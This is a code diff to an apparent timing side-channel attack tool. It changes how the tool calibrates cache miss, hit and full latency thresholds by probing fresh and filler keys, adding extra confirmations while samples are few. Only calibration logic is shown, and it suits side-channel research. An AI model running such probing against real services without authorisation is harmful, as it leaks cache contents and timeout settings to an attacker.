@@ -43,6 +43,11 @@ STATE_NOT_EXIST_FULL = "not_exist_full"
 TIMEOUT_CEILING_MS = 120_000.0
 TIMEOUT_STEP_MS = 100.0
 
+# A bootstrap jump needs SMALL_BAND_CONFIRMATIONS fresh-key confirmations
+# while the miss band holds fewer than SMALL_MISS_BAND samples, then one.
+SMALL_MISS_BAND = 16
+SMALL_BAND_CONFIRMATIONS = 3
+
 
 class AttackError(Exception):
     """Base class for domain-level attack failures."""
@@ -219,12 +224,15 @@ def bootstrap_thresholds(session: ProbeSession,
     Each round pins one fresh key (its first probe seeds the miss band, its
     delayed re-probe samples the hit band), then streams distinct fillers
     every ts2 until one classifies above the running miss-band median by the
-    jump factor. The jump is confirmed with an immediately-sent fresh key
-    whose RTT becomes the full-band sample, and the miss-band median becomes
-    the miss-band sample; a failed confirmation folds both samples back into
-    the miss band and the stream continues. A confirmed jump whose pinned
-    re-probe was not faster than the miss-band median by the jump factor
-    raises AttackError: an entry timeout below ts1 expired the pin.
+    jump factor. Immediately-sent fresh keys confirm the jump: while the
+    miss band is small its median may sit at the band's low end, so it
+    takes SMALL_BAND_CONFIRMATIONS of them, then one. The last one's RTT
+    becomes the full-band sample and the miss-band median the miss-band
+    sample; a failed confirmation folds the filler and every confirmation
+    back into the miss band and the stream continues. A confirmed jump
+    whose pinned re-probe was not faster than the miss-band median by the
+    jump factor raises AttackError: an entry timeout below ts1 expired the
+    pin.
     """
     t1_samples: list[float] = []
     t2_samples: list[float] = []
@@ -253,10 +261,16 @@ def bootstrap_thresholds(session: ProbeSession,
             next_send = sample.time_us + ts2_us
             if len(miss_sorted) >= params.min_miss_samples:
                 median = miss_sorted[len(miss_sorted) // 2]
-                if sample.rtt_us > params.jump_factor * median:
-                    confirm = session.probe(session.fresh_key())
-                    fillers += 1
-                    if confirm.rtt_us > params.jump_factor * median:
+                cut = params.jump_factor * median
+                if sample.rtt_us > cut:
+                    confirms = []
+                    for _ in range(SMALL_BAND_CONFIRMATIONS
+                                   if len(miss_sorted) < SMALL_MISS_BAND else 1):
+                        confirms.append(session.probe(session.fresh_key()).rtt_us)
+                        fillers += 1
+                        if confirms[-1] <= cut:
+                            break
+                    else:  # every confirmation jumped
                         if re_probe.rtt_us * params.jump_factor >= median:
                             raise AttackError(
                                 "the pinned key missed its re-probe "
@@ -264,11 +278,11 @@ def bootstrap_thresholds(session: ProbeSession,
                                 "entry timeout below ts1_ms expired it"
                             )
                         t2_samples.append(us_to_ms(median))
-                        t3_samples.append(us_to_ms(confirm.rtt_us))
+                        t3_samples.append(us_to_ms(confirms[-1]))
                         jumped = True
                         break
-                    insort(miss_sorted, sample.rtt_us)
-                    insort(miss_sorted, confirm.rtt_us)
+                    for rtt_us in (sample.rtt_us, *confirms):
+                        insort(miss_sorted, rtt_us)
                     continue
             insort(miss_sorted, sample.rtt_us)
         if not jumped:
